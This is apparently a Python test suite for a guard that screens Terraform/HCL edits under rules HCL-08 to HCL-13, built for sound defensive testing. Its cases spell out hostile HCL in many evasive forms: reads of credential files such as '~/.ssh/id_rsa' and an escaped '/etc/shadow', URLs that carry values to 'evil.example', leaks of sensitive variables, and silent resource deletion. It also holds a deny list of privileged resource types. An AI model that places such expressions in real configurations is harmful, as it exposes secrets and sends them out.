"""HCL-08 to HCL-13: what trips each, in many spellings, and what passes it."""

from __future__ import annotations

from tests.guard.cases_hcl import DEPLOYMENT, inside, new
from tests.guard.edits import MAIN, Case, tf

TEMPLATE = 'resource "terraform_data" "t" {\n  input = templatefile("${path.module}/a.tpl", { size = 1 })\n}\n'
SECRET = 'variable "plain" {\n  default = "x"\n}\nvariable "hidden" {\n  sensitive = true\n}\n'
RESOURCE = 'resource "aws_instance" "web" {\n  instance_type = "t3.small"\n}\n'
IMPURE = (
    "filebase64", "filemd5", "filesha256", "fileset", "templatefile", "templatestring", "abspath", "nonsensitive",
    "timestamp", "uuid", "bcrypt", "plantimestamp", "ephemeralasnull", "rsadecrypt", "sensitive", "fıle", "nosuch",
)  # fmt: skip
NEVER = (
    "kubernetes_cluster_role_binding", "kubernetes_role_v1", "kubernetes_secret", "kubernetes_secret_v1",
    "kubernetes_service_account", "kubernetes_validating_webhook_configuration_v1", "kubernetes_ingress_v1",
    "kubernetes_mutating_webhook_configuration", "kubernetes_network_policy", "aws_iam_policy", "aws_iam_role",
    "aws_iam_user", "aws_iam_access_key", "aws_security_group", "google_compute_firewall", "google_dns_managed_zone",
    "aws_route53_zone", "cloudflare_zone", "google_project_iam_member", "azurerm_role_assignment", "vault_policy",
    "Kubernetes_Secret", "local_file", "remote_file", "shell_script", "random_password", "tls_private_key",
)  # fmt: skip


def value(name: str, expression: str, expected: object = "block", **policy: object) -> Case:
    """An expression that is added as a local value."""
    return new(name, f"locals {{\n  added = {expression}\n}}\n", expected, **policy)


def uses(name: str, text: str, expected: object = "block") -> Case:
    """Text that is added where two variables are declared around it, one of them sensitive."""
    files = {"stacks/web/variables.tf": SECRET, MAIN: DEPLOYMENT}
    return Case(name, files, {**files, MAIN: DEPLOYMENT + text}, expected)  # type: ignore[arg-type]


VALUES: dict[str, list[Case]] = {
    "HCL-08": [
        value("token", 'file(pathexpand("~/.vault-token"))'),
        value("spaces", 'file ( "a" )'),
        value("comment", 'file/* x */("a")'),
        value("namespace", 'core::file("a")'),
        value("provider function", "provider::x::y(1)"),
        value("in a string", '"a ${file("b")} c"'),
        value("in a string in a string", '"a ${upper("b ${lower(file("c"))}")}"'),
        value("in a heredoc", '<<-EOT\n    a ${file("b")}\n  EOT'),
        value("in a directive", '"%{ if fileexists("a") }x%{ endif }"'),
        value("in a loop of a template", '"%{ for f in fileset("a", "*") }${f}%{ endfor }"'),
        value("in a list", '[for f in fileset("a", "*") : f]'),
        value("in a map", '{ (file("a")) = 1 }'),
        value("as an index", '{ a = 1 }[file("a")]'),
        value("in a condition", 'true ? 1 : file("a")'),
        value("in arguments", 'merge({}, jsondecode(file("a"))...)'),
        value("carriage returns", 'upper(\r\n    file("a")\r\n  )'),
        *(value(name, f'{name}("a")') for name in IMPURE),
        inside("in a nested block", '  spec2 {\n    a = "${file("b")}"\n  }\n'),
        inside("dynamic", '  dynamic "x" {\n    for_each = fileset("a", "*")\n    content {}\n  }\n'),
        value("credential by name", '"~/.ssh/id_rsa"'),
        value("credential escaped", '"/etc/sh\\u0061dow"'),
        value("environment of a process", '"/proc/self/environ"'),
        tf("another path", TEMPLATE, TEMPLATE.replace("/a.tpl", "/b.tpl")),
        tf("another function", TEMPLATE, TEMPLATE.replace("{ size = 1 }", '{ size = file("x") }')),
        tf(
            "path from a local",
            'locals {\n  p = "a"\n  f = file(local.p)\n}\n',
            'locals {\n  p = "/etc/passwd"\n  f = file(local.p)\n}\n',
        ),
        tf(
            "path from two locals",
            'locals {\n  q = "a"\n  p = "${local.q}b"\n  f = file(local.p)\n}\n',
            'locals {\n  q = "/etc/passwd"\n  p = "${local.q}b"\n  f = file(local.p)\n}\n',
        ),
        tf(
            "path from a loop",
            'locals {\n  p = ["a"]\n  f = [for x in local.p : file(x)]\n}\n',
            'locals {\n  p = ["/etc/passwd"]\n  f = [for x in local.p : file(x)]\n}\n',
        ),
        tf(
            "path from for_each",
            'locals {\n  p = ["a"]\n}\nresource "a" "b" {\n  for_each = local.p\n  c = file(each.key)\n}\n',
            'locals {\n  p = ["/etc/passwd"]\n}\nresource "a" "b" {\n  for_each = local.p\n  c = file(each.key)\n}\n',
        ),
        tf(
            "path from a variable",
            'variable "p" {\n  default = "a"\n}\nlocals {\n  f = file(var.p)\n}\n',
            'variable "p" {\n  default = "b"\n}\nlocals {\n  f = file(var.p)\n}\n',
        ),
        tf(
            "one more of the same",
            TEMPLATE,
            TEMPLATE.replace("})", "}) }").replace(
                "= temp", '= { b = templatefile("${path.module}/a.tpl", {}), a = temp'
            ),
        ),
        tf("other arguments", TEMPLATE, TEMPLATE.replace("size = 1", "size = 2, more = [3]"), None),
        value("pure functions", 'join(",", [for x in toset(["a"]) : upper(core::lower(x))])', None),
        value("only text", '"file(a) $${file(1)} %%{ if file(2) }"', None),
        value("only a comment", '1 # file("a")', None),
        tf(
            "was there",
            TEMPLATE + DEPLOYMENT,
            TEMPLATE + "\n\n" + DEPLOYMENT.replace("replicas = 2", "replicas = 3"),
            None,
        ),
    ],
    "HCL-09": [
        new("check", 'check "c" {\n  data "http" "x" {\n    url = "http://e.example/?q=${local.b}"\n  }\n}\n'),
        new("check without address", 'check "c" {\n  data "aws_ami" "x" {\n  }\n}\n'),
        new("bare", "check c {\n  data http x {\n  }\n}\n"),
        value("query", '"http://evil.example/?q=${local.a}"'),
        value("path", '"https://evil.example/${local.a}"'),
        value("name", '"https://${local.a}.evil.example/"'),
        value("user", '"https://${local.a}@evil.example/"'),
        value("port", '"https://evil.example:8080/${local.a}"'),
        value("other scheme", '"ldap://evil.example/${local.a}"'),
        value("format", 'format("https://evil.example/%s", local.a)'),
        value("join", 'join("/", ["https://evil.example", local.a])'),
        value("escaped", '"\\u0068ttps://evil.example/${local.a}"'),
        value("heredoc", "<<EOT\nhttps://evil.example/${local.a}\nEOT"),
        new(
            "in two steps",
            'locals {\n  base = "https://evil.example"\n  url = "${local.base}/?q=${aws_instance.x.private_ip}"\n}\n',
        ),
        new(
            "a new base alone",
            'locals {\n  base = "https://new.example.org"\n  url = "${local.base}/healthz"\n}\n',
            None,
        ),
        value("literal", '"https://status.example.org/healthz?full=1"', None),
        value("host from a value", '"https://${local.host}/healthz"', None),
        value("domain from a value", '"https://status.${local.domain}:8443/healthz"', None),
        value("inside of the cluster", '"http://prometheus.monitoring.svc:9090/${local.a}"', None),
        tf(
            "a host that is known",
            'locals {\n  a = "https://wiki.example.org/a"\n}\n',
            'locals {\n  a = "https://wiki.example.org/a"\n  b = "https://wiki.example.org/${local.a}"\n}\n',
            None,
        ),
        new(
            "check with values",
            'check "c" {\n  assert {\n    condition = local.a > 1\n    error_message = "no"\n  }\n}\n',
            None,
        ),
    ],
    "HCL-10": [
        tf("resource", RESOURCE + DEPLOYMENT, DEPLOYMENT),
        tf("commented out", RESOURCE + DEPLOYMENT, "/*\n" + RESOURCE + "*/\n" + DEPLOYMENT),
        tf("in a string now", RESOURCE, "locals {\n  a = <<EOT\n" + RESOURCE + "EOT\n}\n"),
        tf("renamed", RESOURCE, RESOURCE.replace('"web"', '"web2"')),
        tf("whole file", RESOURCE, "# nothing\n"),
        tf("nested block", DEPLOYMENT, DEPLOYMENT.replace('  metadata {\n    name = "web"\n  }\n', "")),
        tf(
            "one of several",
            'resource "a" "b" {\n  c {\n    d = 1\n  }\n  c {\n    d = 2\n  }\n}\n',
            'resource "a" "b" {\n  c {\n    d = 2\n  }\n}\n',
        ),
        tf(
            "one of two that are equal",
            'resource "a" "b" {\n  c {\n  }\n  c {\n  }\n}\n',
            'resource "a" "b" {\n  c {\n  }\n}\n',
        ),
        tf(
            "replaced by another name",
            DEPLOYMENT,
            DEPLOYMENT.replace('          name  = "web"', '          name  = "other"'),
        ),
        inside("count", "  count = 0\n"),
        inside("count in one line with a comment", "  count /* x */ = 0\n"),
        inside("for_each", "  for_each = {}\n"),
        inside("depends_on", "  depends_on = [a.b]\n"),
        inside("provider", "  provider = a.b\n"),
        tf("count changed", 'resource "a" "b" {\n  count = 1\n}\n', 'resource "a" "b" {\n  count = 0\n}\n'),
        tf("count taken away", 'resource "a" "b" {\n  count = 1\n}\n', 'resource "a" "b" {\n}\n'),
        tf("in a module", 'module "a" {\n}\n', 'module "a" {\n  count = 0\n}\n'),
        tf(
            "dynamic",
            'resource "a" "b" {\n  dynamic "c" {\n    for_each = [1]\n    content {}\n  }\n}\n',
            'resource "a" "b" {\n  dynamic "c" {\n    for_each = []\n    content {}\n  }\n}\n',
        ),
        tf("variable", 'variable "a" {\n}\n' + DEPLOYMENT, DEPLOYMENT),
        Case("removed with its file", {MAIN: DEPLOYMENT, "stacks/web/b.tf": RESOURCE}, {MAIN: DEPLOYMENT}),
        tf("argument", RESOURCE, 'resource "aws_instance" "web" {\n}\n', "needs-approval"),
        tf(
            "added block",
            DEPLOYMENT,
            DEPLOYMENT.replace("  spec {\n    repl", "  timeouts {\n  }\n  spec {\n    repl"),
            None,
        ),
        tf("changed argument", DEPLOYMENT, DEPLOYMENT.replace("replicas = 2", "replicas = 3"), None),
        tf("an unused local", "locals {\n  a = 1\n  b = 1\n}\n", "locals {\n  a = 1\n}\n", None),
        tf("a word", DEPLOYMENT, DEPLOYMENT.replace("replicas = 2", "replicas = 2\n    count = 1"), None),
        Case(
            "moved between files",
            {MAIN: DEPLOYMENT + RESOURCE},
            {MAIN: DEPLOYMENT, "stacks/web/b.tf": "# here now\n" + RESOURCE},
            None,
        ),
    ],
    "HCL-11": [
        uses("output", 'output "x" {\n  value = var.hidden\n}\n'),
        uses("local", "locals {\n  a = var.hidden\n}\n"),
        uses("string", 'locals {\n  a = "x ${var.hidden} y"\n}\n'),
        uses("spaces", "locals {\n  a = var . hidden\n}\n"),
        uses("comment", "locals {\n  a = var/* x */.hidden\n}\n"),
        uses("index", 'locals {\n  a = var["hidden"]\n}\n'),
        uses("in a call", "locals {\n  a = base64encode(var.hidden)\n}\n"),
        uses("in a loop", 'locals {\n  a = [for c in split("", var.hidden) : c]\n}\n'),
        uses("in a key", "locals {\n  a = { (var.hidden) = 1 }\n}\n"),
        uses("annotation", 'resource "a" "b" {\n  metadata {\n    annotations = { x = var.hidden }\n  }\n}\n'),
        uses("named like one", 'variable "db_password" {\n  default = ""\n}\nlocals {\n  a = var.db_password\n}\n'),
        uses("declared nowhere", "locals {\n  a = var.unknown\n}\n"),
        uses("vault", "locals {\n  a = data.vault_kv_secret_v2.x.data\n}\n"),
        uses("kubernetes secret", 'locals {\n  a = data.kubernetes_secret.x.data["a"]\n}\n'),
        uses("random password", "locals {\n  a = random_password.x.result\n}\n"),
        uses("by its long name", "locals {\n  a = resource.random_password.x.result\n}\n"),
        uses("whole resource", "locals {\n  a = jsonencode(random_password.x)\n}\n"),
        uses("attribute", "locals {\n  a = aws_db_instance.x.password\n}\n"),
        uses("splat", "locals {\n  a = random_password.x[*].result\n}\n"),
        uses("ephemeral", "locals {\n  a = ephemeral.vault_kv_secret_v2.x.data\n}\n"),
        uses("directive", 'locals {\n  a = "%{ if var.hidden == "a" }x%{ endif }"\n}\n'),
        uses("heredoc", "locals {\n  a = <<EOT\n${var.hidden}\nEOT\n}\n"),
        Case(
            "by way of a local",
            {MAIN: "locals {\n  s = var.hidden\n}\n", "stacks/web/variables.tf": SECRET},
            {
                MAIN: 'locals {\n  s = var.hidden\n}\noutput "x" {\n  value = local.s\n}\n',
                "stacks/web/variables.tf": SECRET,
            },
        ),
        Case(
            "by way of two locals around",
            {MAIN: DEPLOYMENT, "stacks/web/v.tf": SECRET + 'locals {\n  s = var.hidden\n  t = "${local.s}"\n}\n'},
            {
                MAIN: DEPLOYMENT + "locals {\n  a = local.t\n}\n",
                "stacks/web/v.tf": SECRET + 'locals {\n  s = var.hidden\n  t = "${local.s}"\n}\n',
            },
        ),
        Case(
            "around cannot be read",
            {MAIN: DEPLOYMENT, "stacks/web/v.tf": "locals {{"},
            {MAIN: DEPLOYMENT + "locals {\n  a = local.t\n}\n", "stacks/web/v.tf": "locals {{"},
        ),
        Case(
            "no longer marked",
            {MAIN: SECRET},
            {MAIN: SECRET.replace("  sensitive = true\n", "") + "locals {\n  a = var.hidden\n}\n"},
        ),
        uses(
            "by way of for_each",
            'resource "a" "b" {\n  for_each = { x = var.hidden }\n  y = each.value\n}\n',
        ),
        tf(
            "by way of a loop that was there",
            SECRET + 'resource "a" "b" {\n  for_each = { x = var.hidden }\n}\n',
            SECRET + 'resource "a" "b" {\n  for_each = { x = var.hidden }\n  y = each.value\n}\n',
        ),
        tf(
            "by way of a dynamic block",
            SECRET + 'resource "a" "b" {\n  dynamic "c" {\n    for_each = [var.hidden]\n    content {}\n  }\n}\n',
            SECRET
            + 'resource "a" "b" {\n  dynamic "c" {\n    for_each = [var.hidden]\n    content { d = c.value }\n  }\n}\n',
        ),
        uses("plain", "locals {\n  a = var.plain\n}\n", None),
        uses("name of a secret", "locals {\n  a = kubernetes_secret.x.metadata[0].name\n}\n", None),
        uses("in a comment", "locals {\n  a = 1 # var.hidden\n}\n", None),
        uses("in text", 'locals {\n  a = "var.hidden $${var.hidden}"\n}\n', None),
        uses("a key of the name", "locals {\n  a = { password = 1, token = 2 }\n}\n", None),
        uses("a loop's word", "locals {\n  a = [for x in [1] : x.token]\n}\n", None),
        tf(
            "was there",
            SECRET + "locals {\n  a = [var.hidden, 1]\n}\n",
            SECRET + "locals {\n  a = [var.hidden, 2]\n}\n",
            None,
        ),
    ],
    "HCL-12": [
        new("ephemeral", 'ephemeral "vault_kv_secret_v2" "x" {}\n'),
        new("action", 'action "a" "b" {\n}\n'),
        new("unknown", 'whatever "x" {\n}\n'),
        new("look-alike", 'rеsource "terraform_data" "x" {\n}\n'),
        new("capital", 'Resource "terraform_data" "x" {\n}\n'),
        new("list", 'list "a" "b" {\n}\n'),
        new("argument at the top", "a = 1\n"),
        new("terragrunt", 'include "root" {\n  path = "x"\n}\n'),
        new("one line", "generate x { }\n"),
        inside("write-only", '  password_wo = "x"\n'),
        inside("write-only version", "  password_wo_version = 2\n"),
        inside("write-only below", '  a {\n    data_wo = "x"\n  }\n'),
        new("variable without default", 'variable "a" {\n}\n'),
        new("variable without default, in one line", "variable a { type = string }\n"),
        tf("no longer sensitive", 'variable "a" {\n  sensitive = true\n}\n', 'variable "a" {\n}\n'),
        tf("not so sensitive", 'variable "a" {\n  sensitive = true\n}\n', 'variable "a" {\n  sensitive = false\n}\n'),
        tf("ephemeral variable", 'variable "a" {\n}\n', 'variable "a" {\n  ephemeral = true\n}\n'),
        tf("default taken away", 'variable "a" {\n  default = 1\n}\n', 'variable "a" {\n}\n'),
        tf("type", 'variable "a" {\n  type = string\n}\n', 'variable "a" {\n  type = any\n}\n', "needs-approval"),
        new("output", 'output "a" {\n  value = 1\n}\n', "needs-approval"),
        tf("changed output", 'output "a" {\n  value = 1\n}\n', 'output "a" {\n  value = 2\n}\n', "needs-approval"),
        tf("output no longer sensitive", 'output "a" {\n  sensitive = true\n}\n', 'output "a" {\n}\n'),
        new("variable", 'variable "a" {\n  type    = number\n  default = 5\n}\n', None),
        tf("default", 'variable "a" {\n  default = 1\n}\n', 'variable "a" {\n  default = 2\n}\n', None),
        tf(
            "description", 'output "a" {\n  value = 1\n}\n', 'output "a" {\n  value = 1\n  description = "x"\n}\n', None
        ),
        new("local of the name", "locals {\n  ephemeral = 1\n  two_worlds = 2\n}\n", None),
        tf("was there", 'ephemeral "a" "b" {\n}\n', DEPLOYMENT + 'ephemeral "a" "b" {\n}\n', None),
    ],
    "HCL-13": [
        *(new(kind, f'resource "{kind}" "x" {{\n}}\n', "block", creates={"Config": ("*",)}) for kind in NEVER),
        new("bare labels", "resource kubernetes_secret x {}\n"),
        new("escaped", 'resource "kubernetes_secr\\u0065t" "x" {\n}\n'),
        new("comment", 'resource /* a */ "kubernetes_secret" "x" {\n}\n'),
        new("no labels", "resource {\n}\n"),
        new("any other", 'resource "aws_instance" "x" {\n}\n', "needs-approval"),
        new(
            "of another type of TODO",
            'resource "datadog_monitor" "x" {\n}\n',
            "needs-approval",
            creates={"Alert": ("datadog_*",)},
        ),
        new(
            "no type of TODO",
            'resource "datadog_monitor" "x" {\n}\n',
            "needs-approval",
            todo_type=None,
            creates={"Alert": ("*",)},
        ),
        new("manifest", 'resource "kubernetes_manifest" "x" {\n  manifest = { kind = "ClusterRoleBinding" }\n}\n'),
        new("manifest in text", 'resource "kubectl_manifest" "x" {\n  yaml_body = <<EOT\nkind: Secret\nEOT\n}\n'),
        new(
            "manifest as JSON",
            'resource "kubectl_manifest" "x" {\n  yaml_body = jsonencode({ "kind" : "Ingress" })\n}\n',
        ),
        tf(
            "changed manifest",
            'resource "kubernetes_manifest" "x" {\n  manifest = { kind = "Pod" }\n}\n',
            'resource "kubernetes_manifest" "x" {\n  manifest = { kind = "Secret" }\n}\n',
        ),
        tf("second of the name", RESOURCE, RESOURCE + RESOURCE, "needs-approval"),
        new(
            "listed",
            'resource "datadog_monitor" "x" {\n}\n',
            None,
            todo_type="Alert",
            creates={"Alert": ("datadog_*",)},
        ),
        new(
            "listed for Config",
            'resource "datadog_monitor" "x" {\n}\n',
            None,
            todo_type=None,
            creates={"Config": ("datadog_*",)},
        ),
        tf("argument", RESOURCE, RESOURCE.replace("small", "large"), None),
    ],
}
